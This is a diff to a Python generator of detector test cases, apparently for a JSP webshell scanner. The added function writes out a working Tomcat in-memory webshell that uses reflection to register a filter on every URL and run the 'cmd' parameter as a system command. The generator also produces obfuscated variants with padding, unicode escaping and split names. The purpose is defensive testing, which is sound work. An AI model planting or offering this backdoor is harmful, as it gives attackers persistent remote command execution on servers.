@@ -291,6 +291,42 @@ def el_cases() -> Iterator[Case]:
                 )
 
 
+def memshell_cases() -> Iterator[Case]:
+    """A filter registered at run time on Tomcat's StandardContext; its doFilter runs the request."""
+    decls = [
+        f"class F implements jakarta.servlet.{t('Fil', 'ter')} {{",
+        "  public void doFilter(jakarta.servlet.ServletRequest q, jakarta.servlet.ServletResponse s,",
+        "      jakarta.servlet.FilterChain c) throws java.io.IOException, jakarta.servlet.ServletException {",
+        f'    String x = q.{GETP}("cmd");',
+        f"    if (x != null) {{ {RT}.getRuntime().{EXEC}(x); return; }}",
+        "    c.doFilter(q, s);",
+        "  }",
+        "}",
+    ]
+    stmts = [
+        'java.lang.reflect.Field f = application.getClass().getDeclaredField("context");',
+        "f.setAccessible(true);",
+        "Object ac = f.get(application);",
+        'java.lang.reflect.Field g = ac.getClass().getDeclaredField("context");',
+        "g.setAccessible(true);",
+        f"org.apache.catalina.core.{t('Standard', 'Context')} sc =",
+        "    (org.apache.catalina.core.StandardContext) g.get(ac);",
+        "org.apache.tomcat.util.descriptor.web.FilterDef fd = new org.apache.tomcat.util.descriptor.web.FilterDef();",
+        'fd.setFilterName("f"); fd.setFilter(new F()); fd.setFilterClass(F.class.getName());',
+        f"sc.{t('addFilter', 'Def')}(fd);",
+        "org.apache.tomcat.util.descriptor.web.FilterMap fm = new org.apache.tomcat.util.descriptor.web.FilterMap();",
+        'fm.setFilterName("f"); fm.addURLPattern("/*");',
+        f"sc.{t('addFilterMap', 'Before')}(fm);",
+    ]
+    for wrapper in WRAPPERS:
+        for padded in (False, True):
+            for escaped in (False, True):
+                content = build(decls, stmts, wrapper=wrapper, padded=padded, comments=False, escaped=escaped)
+                name = "x.jspx" if wrapper == "jspx" else "x.jsp"
+                variant = f"filter wrapper={wrapper} padded={padded} unicode={escaped}"
+                yield Case("jsp.memory-shell", variant, "jsp", name, content)
+
+
 NEAR_MISSES: dict[str, list[str]] = {
     "exec-fixed": [f'Process p = {RT}.getRuntime().{EXEC}(new String[] {{"uptime"}});', "out.print(p.waitFor());"],
     "regex-exec-client": ['String q = request.GETP("q");', "out.print(org.owasp.encoder.Encode.forHtml(q));"],
@@ -352,4 +388,5 @@ def cases() -> Iterator[Case]:
             yield make(i, sinks[k % len(sinks)], tr, WRAPPERS[(k + 2) % len(WRAPPERS)], k % 3 == 0)
             k += 1
     yield from el_cases()
+    yield from memshell_cases()
     yield from near_misses()
